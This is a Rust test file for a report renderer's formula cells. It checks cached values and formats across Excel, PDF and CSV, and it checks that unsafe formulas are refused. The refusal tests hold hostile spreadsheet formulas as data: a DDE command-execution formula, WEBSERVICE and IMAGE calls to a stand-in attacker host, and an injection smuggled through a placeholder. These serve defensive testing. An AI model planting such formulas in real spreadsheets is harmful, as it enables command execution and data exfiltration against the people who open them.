//! `formula`: a real formula cell in Excel with its value cached (read back as formula and value), the
//! value as text in the PDF (in its number format) and in CSV; formulas that reach outside the workbook
//! or placeholders that are not numbers are refused.

mod common;

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use common::decode::xlsx_part;
use common::*;
use quire_render::{Engine, Limits, NoAssets, OutputFormat, TemplateDoc, validate};
use serde_json::{Value, json};

/// A table of items starting at the sheet's first row (header in row 1, items in rows 2…n+1), a total
/// row with `=SUM(B2:B{{count(items) + 1}})`, and a standalone formula under the table.
fn template() -> TemplateDoc {
    TemplateDoc::from_json(&json!({ "schema": { "components": [
        { "id": "items", "type": "table", "props": { "headers": ["Item", "Amount"] }, "children": [
            { "id": "loop", "type": "loop", "props": { "items": "{{items}}", "itemVariable": "i" }, "children": [
                { "id": "row", "type": "table-row", "children": [
                    { "id": "n", "type": "text", "props": { "text": "{{i.name}}" } },
                    { "id": "a", "type": "text", "props": { "text": "{{i.amount}}" } }
                ] }
            ] },
            { "id": "total", "type": "table-row", "children": [
                { "id": "tl", "type": "text", "props": { "text": "Total" } },
                { "id": "tf", "type": "formula", "props": {
                    "formula": "=SUM(B2:B{{count(items) + 1}})", "value": "{{total}}", "format": "#,##0.00"
                } }
            ] }
        ] },
        { "id": "average", "type": "formula", "props": {
            "formula": "=AVERAGE(B2:B{{count(items) + 1}})", "value": "{{total / count(items)}}", "format": "\"avg \"0.0"
        } }
    ] } }))
    .expect("valid template")
}

fn data() -> Value {
    json!({ "items": [ { "name": "Beans", "amount": 1200.5 }, { "name": "Cups", "amount": 300 }, { "name": "Filters", "amount": 49.5 } ], "total": 1550 })
}

#[test]
fn formulas_are_live_cells_with_cached_values_in_excel() {
    let xlsx = render(&template(), &data(), OutputFormat::Xlsx);
    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(xlsx.bytes.clone())).expect("workbook");
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).expect("formulas");
    let values = book.worksheet_range(&name).expect("values");
    // Header row 1, items rows 2–4, the total row 5, a blank row, the standalone formula in row 7.
    assert_eq!(formulas.get_value((4, 1)).map(String::as_str), Some("SUM(B2:B4)"));
    assert_eq!(values.get_value((4, 1)), Some(&Data::Float(1550.0)), "the cached result");
    assert_eq!(formulas.get_value((6, 0)).map(String::as_str), Some("AVERAGE(B2:B4)"));
    let average = match values.get_value((6, 0)) {
        Some(Data::Float(v)) => *v,
        other => panic!("cached average: {other:?}"),
    };
    assert!((average - 1550.0 / 3.0).abs() < 1e-9);
    for row in 1..=3 {
        assert!(matches!(values.get_value((row, 1)), Some(Data::Float(_))), "amounts are numbers the SUM adds");
    }
    let sheet = xlsx_part(&xlsx.bytes, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("<f>SUM(B2:B4)</f><v>1550</v>"), "{sheet}");
    let styles = xlsx_part(&xlsx.bytes, "xl/styles.xml");
    assert!(styles.contains("formatCode=\"#,##0.00\""), "the number format is applied");
}

#[test]
fn the_value_shows_formatted_in_pdf_and_plain_in_csv() {
    let pdf = render(&template(), &data(), OutputFormat::Pdf);
    let text = pdf_text(&pdf.bytes);
    assert!(text.contains("Total 1,550.00"), "{text}");
    assert!(text.contains("avg 516.7"), "{text}");
    assert!(!text.contains("SUM("), "the formula itself is not printed");
    let csv = csv_records(&render(&template(), &data(), OutputFormat::Csv).bytes);
    assert_eq!(csv.last().map(|r| r.as_slice()), Some(["Total".to_owned(), "1550".to_owned()].as_slice()));
}

#[test]
fn formulas_that_reach_outside_the_workbook_or_are_malformed_are_refused() {
    let cases = [
        ("SUM(A1:A3)", "starts with ="),
        ("=", "empty"),
        ("=cmd|' /C calc'!A0", "DDE"),
        ("='[Other.xlsx]Sheet1'!A1", "another workbook"),
        ("=WEBSERVICE(\"https://evil.example/?\"&A1)", "WEBSERVICE"),
        ("=_xlfn.IMAGE(\"https://evil.example/p.png\")", "IMAGE"),
    ];
    for (formula, fragment) in cases {
        let report = validate(
            &json!({ "components": [ { "id": "f", "type": "formula", "props": { "formula": formula } } ] }),
            &json!([]),
        );
        assert!(
            report
                .problems
                .iter()
                .any(|p| p.path == "schema.components[0].props.formula" && p.message.contains(fragment)),
            "{formula}: {report}"
        );
    }
    let long = format!("={}", "A1+".repeat(3000));
    let report = validate(
        &json!({ "components": [ { "id": "f", "type": "formula", "props": { "formula": long } } ] }),
        &json!([]),
    );
    assert!(report.problems.iter().any(|p| p.message.contains("8192")), "{report}");
}

#[test]
fn formula_placeholders_must_be_numbers() {
    let template = TemplateDoc::from_json(&json!({ "schema": { "components": [
        { "id": "sum", "type": "formula", "props": { "formula": "=SUM(A1:A{{last}})" } }
    ] } }))
    .expect("valid");
    let engine = Engine::new(Limits::default());
    for last in [json!("3)+WEBSERVICE(\"x\""), json!("3"), json!(null)] {
        let err =
            engine.render(&template, &json!({ "last": last }), OutputFormat::Xlsx, &NoAssets).expect_err("refused");
        assert_eq!(err.code, "ERR_VALID_001", "{err}");
        assert_eq!(err.path.as_deref(), Some("schema.components[0].props.formula"));
        assert!(err.message.contains("must give a number"), "{err}");
    }
    let ok = engine.render(&template, &json!({ "last": 3 }), OutputFormat::Xlsx, &NoAssets).expect("a number is fine");
    assert!(xlsx_part(&ok.bytes, "xl/worksheets/sheet1.xml").contains("<f>SUM(A1:A3)</f>"));
}
